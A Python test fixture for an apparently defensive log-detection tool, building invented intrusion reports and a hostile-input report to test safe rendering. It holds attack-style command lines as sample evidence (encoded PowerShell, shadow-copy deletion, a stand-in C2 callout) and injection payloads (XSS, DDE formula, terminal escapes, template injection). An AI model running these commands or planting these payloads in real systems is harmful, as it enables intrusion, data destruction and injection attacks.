"""Scans as people see them: a realistic intrusion, a hostile one, an empty one, a huge one. All names are invented."""

# ruff: noqa: E501  # tables read better with one entry a line

# tables read better with one entry a line

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta

from tocsin.model import Evidence, Finding, RuleInfo
from tocsin.model.report import (
    LogSourceMissing,
    RejectSeen,
    RuleRefused,
    RulesUsed,
    ScanReport,
    SourceRead,
    TableRead,
)
from tocsin.triage import group_findings

START = datetime(2022, 7, 15, 7, 31, 4, tzinfo=UTC)
NOW = START + timedelta(hours=20)
ADMIN = "MINISTRY\\a.prifti"
SYSTEM = "NT AUTHORITY\\SYSTEM"

KERNELS = [
    # title, level, technique, tactic, benign triggers
    ("Web shell writes a script into the web root", "high", "T1505.003", "persistence", ("Web developers on a test server",)),
    ("Shell started by the web server", "critical", "T1190", "initial-access", ()),
    ("Account and group listing", "low", "T1087.002", "discovery", ("Administrators", "Inventory scripts")),
    ("Encoded PowerShell command", "high", "T1059.001", "execution", ("Software deployment tools",)),
    ("LSASS memory read by a dump tool", "critical", "T1003.001", "credential-access", ("Crash analysis by support",)),
    ("Remote service created over an administrative share", "high", "T1021.002", "lateral-movement", ("PsExec in use by administrators",)),
    ("Security log cleared", "high", "T1070.001", "defense-evasion", ("Reinstallation of a machine",)),
    ("Defender switched off by policy", "high", "T1562.001", "defense-evasion", ()),
    ("Shadow copies deleted", "critical", "T1490", "impact", ("Backup software that rotates its copies",)),
    ("Raw disk driver loaded by an unsigned program", "critical", "T1561.002", "impact", ()),
]  # fmt: skip

FIELDS = [
    {"Image": "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "TargetFilename": "C:\\inetpub\\wwwroot\\aspnet_client\\error4.aspx"},
    {"ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": '"cmd.exe" /c whoami && net user /domain'},
    {"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": 'net group "Domain Admins" /domain'},
    {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell -nop -w hidden -enc " + "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA" * 6, "ParentImage": "C:\\Windows\\System32\\cmd.exe"},
    {"SourceImage": "C:\\Users\\Public\\pd.exe", "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1fffff"},
    {"ServiceName": "svc_upd", "ImagePath": "\\\\127.0.0.1\\ADMIN$\\svc_upd.exe", "CommandLine": "svc_upd.exe -k http://update.invalid/c2/a.php 203.0.113.77"},
    {"Channel": "Security", "EventID": "1102", "SubjectUserName": "a.prifti"},
    {"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)"},
    {"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin delete shadows /all /quiet"},
    {"ImageLoaded": "C:\\Windows\\System32\\drivers\\rwdsk.sys", "Signed": "false", "Hashes": "SHA256=" + "3c" * 32},
]  # fmt: skip


def rule(number: int) -> RuleInfo:
    title, level, technique, tactic, benign = KERNELS[number]
    return RuleInfo(f"rule-{number}", title, level, attack=(technique,), tactics=(tactic,), falsepositives=benign)


def finding(number: int, host: str, user: str, minute: float, count: int = 1) -> Finding:
    first = START + timedelta(minutes=minute)
    last = first + timedelta(seconds=40 * (count - 1))
    events = tuple(
        Evidence(
            f"9c0d-{number}{host}{k}",
            first + timedelta(seconds=40 * k),
            f"logs/{host}/Sysmon.evtx",
            1181 + k,
            FIELDS[number],
        )
        for k in range(min(count, 10))
    )
    return Finding(rule(number), host, user, count, first, last, tuple(e.event_id for e in events), events)


def intrusion() -> list[Finding]:
    """From a web shell to a wiper on four hosts, with a little noise."""
    story = [
        finding(0, "WEB02", "IIS APPPOOL\\DefaultAppPool", 0), finding(1, "WEB02", "IIS APPPOOL\\DefaultAppPool", 3, 4),
        finding(2, "WEB02", "IIS APPPOOL\\DefaultAppPool", 5, 12), finding(3, "WEB02", ADMIN, 9, 2),
        finding(4, "WEB02", SYSTEM, 18), finding(5, "DC01", ADMIN, 44, 3), finding(5, "FILE01", ADMIN, 51),
        finding(7, "DC01", ADMIN, 58), finding(6, "DC01", SYSTEM, 62), finding(8, "FILE01", SYSTEM, 64),
        finding(9, "FILE01", SYSTEM, 65), finding(9, "DC01", SYSTEM, 65.5), finding(9, "WS17", SYSTEM, 66),
    ]  # fmt: skip
    other = [finding(3, "WS05", "MINISTRY\\l.hoxha", -900), finding(2, "WS05", "MINISTRY\\l.hoxha", -890, 3)]
    noise = [finding(2, f"WS{n:02}", f"MINISTRY\\user{n}", -60 * n, 5) for n in range(20, 45)]
    return [*story, *other, *noise]


def report(findings: list[Finding], **more: object) -> ScanReport:
    facts: dict[str, object] = {
        "version": "0.1.0",
        "generated": NOW,
        "seconds": 31.4,
        "command": "tocsin scan logs --rules rules --tz Europe/Tirane --report report.html",
        "paths": ("logs",),
        "rules": RulesUsed(
            3671, "b1c9" * 8, ("rules",), 3,
            (RuleRefused("rules/net/proxy_old.yml:31", "the regular expression needs look-around, which no linear-time engine has"),),
        ),
        "sources": (
            SourceRead("logs/WEB02/Sysmon.evtx", "evtx", "windows", 412_887, 0, "", START - timedelta(days=6), NOW),
            SourceRead("logs/DC01/Security.evtx.gz", "evtx", "windows", 790_120, 12, "the file ends inside chunk 611", START, NOW),
            SourceRead("logs/zeek.zip!conn.log", "zeek-tsv", "zeek_conn", 1_204_551, 0, "", START, NOW, known=True),
            SourceRead("logs/photo.jpg", "", "", 0, 0, "no reader recognises this content"),
        ),
        "incidents": group_findings(findings, NOW),
        "tables": (TableRead("windows", 1_203_007, START, NOW), TableRead("zeek_conn", 1_204_551, START, NOW)),
        "notes": ("logs/fw.log carries no time zone: read as Europe/Tirane.",),
        "missing": (LogSourceMissing("Windows: PowerShell script blocks", 161, "Switch on script block logging (event 4104)."),),
        "rejects": (RejectSeen("logs/DC01/Security.evtx.gz", 780_114, "checksum of the record is wrong", 90_112, "ElfChnk"),),
        "zone": "Europe/Tirane",
    }  # fmt: skip
    return ScanReport(**facts | more)  # type: ignore[arg-type]


HOSTILE = (
    "<script>alert(1)</script>",
    "\u202eexe.tnemucod\u202c",
    "\x1b[2J\x1b]0;owned\x07",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% raw %}",
    "</style></title></details>",
    "http://evil.invalid/a.js javascript:alert(1)",
    "عربى مثال שלום",
    "\u200bzero\u2060width",
    "=cmd|' /C calc'!A0",
    "[bold red]x[/]",
    "A" * 5000,
    "lone \ud800 surrogate",
)


def hostile(texts: Sequence[str] = HOSTILE) -> list[Finding]:
    """Every text that comes from logs or rules tries to be something else."""
    return [
        Finding(
            RuleInfo(text, text, "high", attack=("T1003", text), tactics=("execution", text), falsepositives=(text,), description=text),
            text, text, 3, START + timedelta(minutes=n), START + timedelta(minutes=n + 1), (text + str(n),),
            (Evidence(text, START, text, 1, {text: text, "CommandLine": text * 3}, text, text),),
        )
        for n, text in enumerate(texts)
    ]  # fmt: skip


def hostile_report(texts: Sequence[str] = HOSTILE) -> ScanReport:
    text = " ".join(texts)
    return report(
        hostile(texts),
        command=text,
        paths=tuple(texts),
        notes=tuple(texts),
        sources=tuple(SourceRead(each, each, each, 1, 1, each) for each in texts),
        rules=RulesUsed(1, text, tuple(texts), 9, (RuleRefused(text, text),)),
        rejects=(RejectSeen(text, 1, text, 1, text),),
        missing=(LogSourceMissing(text, 1, text),),
        tables=(TableRead(text, 1),),
        unjoined=tuple(hostile(texts)[:2]),
    )


def many(hosts: int) -> list[Finding]:
    return [finding(n % 10, f"HOST{n:04}", SYSTEM, n * 45) for n in range(hosts)]
